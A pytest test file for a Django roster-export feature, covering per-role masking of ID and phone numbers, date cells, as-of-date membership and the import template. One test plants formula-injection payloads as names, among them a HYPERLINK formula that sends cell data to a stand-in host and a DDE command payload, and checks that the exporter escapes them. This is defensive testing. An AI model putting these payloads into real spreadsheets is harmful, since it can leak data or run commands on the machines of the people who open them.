"""The roster export and the template: masking per role, dates, and no cell that is a formula."""

from __future__ import annotations

import csv
import datetime as dt
import io
from collections.abc import Callable
from types import SimpleNamespace
from typing import Any

import pytest
from django.contrib.auth.models import User
from django.test import Client
from openpyxl import load_workbook

from jifen.audit.models import AuditEvent
from jifen.documents.formulas import formula_safe
from jifen.documents.tables import csv_bytes, xlsx_bytes
from jifen.orgs.models import Person
from jifen.orgs.services import membership_transfer, organization_create
from jifen.roster.columns import HEADERS
from tests.clock import Clock

pytestmark = pytest.mark.django_db

ID = "11010519491231002X"


def client_for(user: User) -> Client:
    client = Client()
    client.force_login(user)
    return client


def csv_rows(content: bytes) -> list[list[str]]:
    assert content.startswith(b"\xef\xbb\xbf")  # Excel needs the BOM to read UTF-8
    return list(csv.reader(io.StringIO(content[3:].decode("utf-8"))))


def xlsx_rows(content: bytes) -> list[list[Any]]:
    sheet = load_workbook(io.BytesIO(content)).active
    assert sheet is not None
    return [list(row) for row in sheet.iter_rows(values_only=True)]


@pytest.fixture
def people(tree: SimpleNamespace, make_person: Callable[..., Person]) -> SimpleNamespace:
    zhang = make_person("张三", tree.b1, id_number=ID, phone="13812345678")
    li = make_person("李四", tree.b2, phone="")
    wang = make_person("王五", tree.xb)
    return SimpleNamespace(zhang=zhang, li=li, wang=wang)


def test_the_branch_secretary_exports_full_numbers(
    secretary: User, tree: SimpleNamespace, people: SimpleNamespace, clock: Clock
) -> None:
    response = client_for(secretary).get(f"/orgs/{tree.b1.pk}/roster/export/?format=csv")
    assert response.status_code == 200
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert "attachment;" in response["Content-Disposition"]
    rows = csv_rows(response.content)
    assert rows[0] == [*HEADERS, "所在组织名称"]
    assert rows[1] == [
        "张三", "男", ID, "13812345678", "正式党员", "2010-07-01", "", "B1", "2020-01-01",
        "教工第一党支部",
    ]  # fmt: skip
    assert len(rows) == 2  # B2 and XB are not in B1's subtree
    event = AuditEvent.objects.get(action="roster.export")
    assert event.detail == {"day": clock.today.isoformat(), "rows": 1, "sensitive": True}


def test_the_scorekeeper_exports_masked_numbers(
    scorekeeper: User, tree: SimpleNamespace, people: SimpleNamespace
) -> None:
    client = client_for(scorekeeper)
    rows = csv_rows(client.get(f"/orgs/{tree.b1.pk}/roster/export/?format=csv").content)
    assert rows[1][2:4] == ["1101**********002X", "138****5678"]
    sheet = xlsx_rows(client.get(f"/orgs/{tree.b1.pk}/roster/export/").content)
    assert sheet[1][2:4] == ["1101**********002X", "138****5678"]
    assert ID not in str(sheet)


def test_the_auditor_reads_the_whole_committee_masked(
    auditor: User, tree: SimpleNamespace, people: SimpleNamespace
) -> None:
    rows = csv_rows(client_for(auditor).get(f"/orgs/{tree.c.pk}/roster/export/?format=csv").content)
    assert [row[0] for row in rows[1:]] == ["张三", "李四"]
    assert rows[1][2] == "1101**********002X"


def test_the_xlsx_export_holds_real_dates_and_text_numbers(
    general_admin: User, tree: SimpleNamespace, people: SimpleNamespace
) -> None:
    response = client_for(general_admin).get(f"/orgs/{tree.g.pk}/roster/export/?format=xlsx")
    assert response["Content-Type"].startswith("application/vnd.openxmlformats")
    sheet = load_workbook(io.BytesIO(response.content)).active
    assert sheet is not None
    assert sheet["C2"].value == ID
    assert sheet["C2"].data_type == "s"
    assert sheet["F2"].value == dt.datetime(2010, 7, 1)  # a real date cell
    assert sheet["I2"].number_format == "yyyy-mm-dd"


def test_the_export_reads_the_members_on_a_date(
    general_admin: User, tree: SimpleNamespace, people: SimpleNamespace
) -> None:
    membership_transfer(person=people.zhang, to=tree.b2, on=dt.date(2024, 3, 15))
    client = client_for(general_admin)
    before = csv_rows(
        client.get(f"/orgs/{tree.b1.pk}/roster/export/?format=csv&on=2024-03-14").content
    )
    after = csv_rows(
        client.get(f"/orgs/{tree.b1.pk}/roster/export/?format=csv&on=2024-03-15").content
    )
    assert [row[0] for row in before[1:]] == ["张三"]
    assert after[1:] == []


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_formula_safe_puts_an_apostrophe_before_a_formula(start: str) -> None:
    assert formula_safe(f"{start}1+1") == f"'{start}1+1"
    assert formula_safe("张=三") == "张=三"
    assert formula_safe("") == ""


def test_no_exported_cell_begins_a_formula(
    committee_admin: User, tree: SimpleNamespace, make_person: Callable[..., Person]
) -> None:
    evil = organization_create(
        code="EVIL", name='=HYPERLINK("http://x.example/?"&A1,"点我")', kind="branch", parent=tree.c
    )
    names = ['=cmd|" /C calc"!A0', "+SUM(1,2)", "-2+3", "@SUM(A1)", "\t=1", "\r=1"]
    for name in names:
        make_person(name, evil)
    client = client_for(committee_admin)

    rows = csv_rows(client.get(f"/orgs/{evil.pk}/roster/export/?format=csv").content)
    cells = [cell for row in rows[1:] for cell in row]
    assert not [cell for cell in cells if cell[:1] in {"=", "+", "-", "@", "\t", "\r"}]
    stored = Person.objects.values_list("name", flat=True)  # the service strips tab and CR
    assert {row[0] for row in rows[1:]} == {f"'{name}" for name in stored}
    assert rows[1][9] == "'" + evil.name

    sheet = load_workbook(io.BytesIO(client.get(f"/orgs/{evil.pk}/roster/export/").content)).active
    assert sheet is not None
    for row in sheet.iter_rows(min_row=2):
        for cell in row:
            assert cell.data_type != "f"
            if isinstance(cell.value, str):
                assert cell.value[:1] not in {"=", "+", "-", "@", "\t", "\r"}


def test_the_writers_escape_whatever_they_are_given() -> None:
    content = xlsx_bytes(["姓名"], [["=1+1"], ["-1"]])
    assert xlsx_rows(content)[1:] == [["'=1+1"], ["'-1"]]
    assert csv_rows(csv_bytes(["姓名"], [["@x"]]))[1] == ["'@x"]


def test_the_templates_carry_the_headers_and_the_organization_codes(
    general_admin: User, tree: SimpleNamespace
) -> None:
    client = client_for(general_admin)
    response = client.get(f"/orgs/{tree.g.pk}/roster/template/?format=csv")
    assert response.status_code == 200
    assert csv_rows(response.content) == [list(HEADERS)]

    response = client.get(f"/orgs/{tree.g.pk}/roster/template/")
    workbook = load_workbook(io.BytesIO(response.content))
    assert workbook.sheetnames == ["花名册", "填写说明"]
    sheet = workbook["花名册"]
    assert [cell.value for cell in sheet[1]] == list(HEADERS)
    assert sheet.column_dimensions["C"].number_format == "@"  # ID numbers stay text
    assert len(sheet.data_validations.dataValidation) == 2
    notes = list(workbook["填写说明"].iter_rows(values_only=True))
    codes = {row[0] for row in notes}
    assert {"G", "B1", "B2"} <= codes
    assert "C" not in codes
    assert "XB" not in codes
    assert "B3" not in codes


def test_the_template_is_for_those_who_import(scorekeeper: User, tree: SimpleNamespace) -> None:
    client = client_for(scorekeeper)
    assert client.get(f"/orgs/{tree.b1.pk}/roster/template/").status_code == 404
    assert client.get(f"/orgs/{tree.b1.pk}/roster/export/").status_code == 200
